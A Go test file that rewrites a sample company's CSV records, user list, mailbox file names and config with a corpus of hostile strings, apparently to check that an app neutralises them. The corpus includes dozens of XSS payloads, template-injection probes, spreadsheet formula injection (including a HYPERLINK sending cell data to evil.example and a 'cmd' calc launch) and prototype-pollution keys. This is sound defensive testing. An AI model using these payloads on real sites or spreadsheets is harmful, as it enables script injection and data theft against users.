package main_test

import (
	"encoding/csv"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// corpus are names that run window.__xss=1 where a page, a script, a chart, an
// attribute or a spreadsheet takes them for more than text.
var corpus = []string{
	`<script>window.__xss=1</script>`,
	`</script><script>window.__xss=1</script>`,
	`</ScRiPt ><ScRiPt>window.__xss=1</ScRiPt >`,
	`<script/src=data:text/javascript,window.__xss=1></script>`,
	`<scr<script>ipt>window.__xss=1</scr</script>ipt>`,
	`<img src=x onerror=window.__xss=1>`,
	`<img/src='x'/onerror='window.__xss=1'>`,
	"<img src=x onerror=window.__xss=1//",
	`<IMG """><SCRIPT>window.__xss=1</SCRIPT>">`,
	`<svg onload=window.__xss=1>`,
	`<svg><script>window.__xss=1</script></svg>`,
	`<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>`,
	`<svg><use href="data:image/svg+xml,<svg id=x onload=window.__xss=1>#x"/></svg>`,
	`<body onload=window.__xss=1>`,
	`<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
	`<iframe src="javascript:parent.__xss=1"></iframe>`,
	`<object data="javascript:window.__xss=1">`,
	`<embed src="javascript:window.__xss=1">`,
	`<details open ontoggle=window.__xss=1>x</details>`,
	`<input autofocus onfocus=window.__xss=1>`,
	`<select autofocus onfocus=window.__xss=1>`,
	`<video><source onerror=window.__xss=1></video>`,
	`<audio src=x onerror=window.__xss=1>`,
	`<marquee onstart=window.__xss=1>x</marquee>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>`,
	`<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">`,
	`<template><img src=x onerror=window.__xss=1></template>`,
	`<form action=javascript:window.__xss=1><button>x</button></form>`,
	`<a href="javascript:window.__xss=1">x</a>`,
	`<base href="https://evil.example/">`,
	`<meta http-equiv=refresh content="0;url=javascript:window.__xss=1">`,
	`<link rel=stylesheet href=data:text/css,*{x:1}>`,
	`<style>@import 'https://evil.example/x.css';</style>`,
	`"><img src=x onerror=window.__xss=1>`,
	`'><img src=x onerror=window.__xss=1>`,
	`" onmouseover="window.__xss=1`,
	`' onfocus='window.__xss=1' autofocus='`,
	"` onmouseover=window.__xss=1 `",
	`" autofocus onfocus=window.__xss=1 x="`,
	`</title><script>window.__xss=1</script>`,
	`</textarea><script>window.__xss=1</script>`,
	`</style><script>window.__xss=1</script>`,
	`--><script>window.__xss=1</script><!--`,
	`]]><script>window.__xss=1</script>`,
	`<![CDATA[<script>window.__xss=1</script>`,
	`__f__function(){window.__xss=1}()__f__`,
	`"__f__window.__xss=1__f__"`,
	`'-(window.__xss=1)-'`,
	`";window.__xss=1;//`,
	`\";window.__xss=1;//`,
	`${window.__xss=1}`,
	`{{constructor.constructor('window.__xss=1')()}}`,
	`{{7*7}}<%= 7*7 %>#{7*7}`,
	`{a|{b}} {c} {@[0]} %{x}`,
	`javascript:window.__xss=1`,
	`JaVaScRiPt://%0awindow.__xss=1`,
	`data:text/html,<script>window.__xss=1</script>`,
	`&lt;script&gt;window.__xss=1&lt;/script&gt;`,
	`&#60;img src=x onerror=window.__xss=1&#62;`,
	`\u003cimg src=x onerror=window.__xss=1\u003e`,
	`%3Cscript%3Ewindow.__xss=1%3C/script%3E`,
	`<ſcript>window.__xss=1</ſcript>`,
	"＜script＞window.__xss=1＜/script＞",
	"\u202e<img src=x onerror=window.__xss=1>\u200b\ufeff",
	"\u2028window.__xss=1\u2029",
	`=HYPERLINK("https://evil.example/?"&A1,"x")`,
	`=cmd|' /C calc'!A1`,
	`@SUM(1+1)*cmd|' /C calc'!A1`,
	`+1+cmd|' /C calc'!A1`,
	"-2+3\tx",
	`<x hx-get="https://evil.example/" hx-trigger=load hx-on:load="window.__xss=1">`,
	`var(--ink)`,
	`constructor`,
	`__proto__`,
}

// namedColumns hold names: of each canonical file the columns that take any text.
var namedColumns = map[string][]string{
	"accounts.csv":    {"name", "industry", "region", "segment"},
	"campaigns.csv":   {"name"},
	"contacts.csv":    {"name", "title", "handle"},
	"deals.csv":       {"name", "stage", "source", "lost_reason", "region", "segment", "forecast_category"},
	"posts.csv":       {"author", "url", "title"},
	"products.csv":    {"name"},
	"reps.csv":        {"name", "title", "region"},
	"teams.csv":       {"name", "region"},
	"visits.csv":      {"landing_url", "referrer", "utm_source", "utm_content", "utm_term"},
	"engagements.csv": {"url", "evidence"},
	"web_daily.csv":   {"landing_url"},
}

// namedIDs become addresses; every fifth of them is hostile, in every file alike.
var namedIDs = []string{"deal_id", "account_id", "campaign_id", "post_id", "team_id", "parent_team_id", "parent_account_id", "product_id"}

// makeHostile gives everything of the sample company in dir another name.
func makeHostile(t *testing.T, dir string) {
	t.Helper()
	files, err := filepath.Glob(filepath.Join(dir, "files", "*.csv"))
	if err != nil || len(files) < 15 {
		t.Fatalf("the sample company has the files %v, %v", files, err)
	}
	hostile := map[string]string{}
	seen := map[string]int{}
	for i, file := range files {
		next := i * 7 // each kind begins elsewhere in the corpus
		rewrite(t, file, func(head, row []string) {
			for at, column := range head {
				if column == "stage" && filepath.Base(file) == "deals.csv" {
					row[at] = corpus[len(row[at])%len(corpus)] // one name for one stage
					continue
				}
				if slices.Contains(namedColumns[filepath.Base(file)], column) {
					row[at] = corpus[next%len(corpus)]
					next++
				}
				if kind := strings.TrimPrefix(column, "parent_"); row[at] != "" && slices.Contains(namedIDs, column) {
					key := kind + " " + row[at]
					if _, ok := hostile[key]; !ok {
						if seen[kind]++; seen[kind]%5 == 1 {
							hostile[key] = row[at] + ` "><img src=x onerror=window.__xss=1>/..?&#`
						} else {
							hostile[key] = row[at]
						}
					}
					row[at] = hostile[key]
				}
			}
		})
	}
	next := 0
	rewrite(t, filepath.Join(dir, "users.csv"), func(_, row []string) {
		row[3] = corpus[next%len(corpus)]
		next++
	})
	// Files of such names, which hold nothing that can be kept.
	mail := filepath.Join(dir, "hostile-mail")
	if err = os.MkdirAll(mail, 0o700); err != nil {
		t.Fatal(err)
	}
	for _, name := range corpus {
		if strings.ContainsAny(name, "/\x00") {
			continue
		}
		if err = os.WriteFile(filepath.Join(mail, name+".mbox"), []byte("From x Mon Jan  5 10:00:00 2026\nFrom: "+name+"\nDate: "+name+"\nMessage-ID: <"+name+">\n\nx\n"), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	config := filepath.Join(dir, "credence.yaml")
	text, err := os.ReadFile(config)
	if err != nil {
		t.Fatal(err)
	}
	said := strings.Replace(string(text), "name: Halden Instruments\n", "name: '</title><script>window.__xss=1</script>'\n", 1)
	said = said[:strings.Index(said, "  - {name: mail,")] + "  - {name: hostile, kind: mailbox, path: hostile-mail}\n"
	if err := os.WriteFile(config, []byte(said), 0o600); err != nil {
		t.Fatal(err)
	}
}

func rewrite(t *testing.T, file string, change func(head, row []string)) {
	t.Helper()
	f, err := os.Open(file)
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(f).ReadAll()
	if err != nil {
		t.Fatalf("read %s: %v", file, err)
	}
	if err = f.Close(); err != nil {
		t.Fatal(err)
	}
	for _, row := range rows[1:] {
		change(rows[0], row)
	}
	var out strings.Builder
	w := csv.NewWriter(&out)
	if err = w.WriteAll(rows); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(file, []byte(out.String()), 0o600); err != nil {
		t.Fatal(err)
	}
}
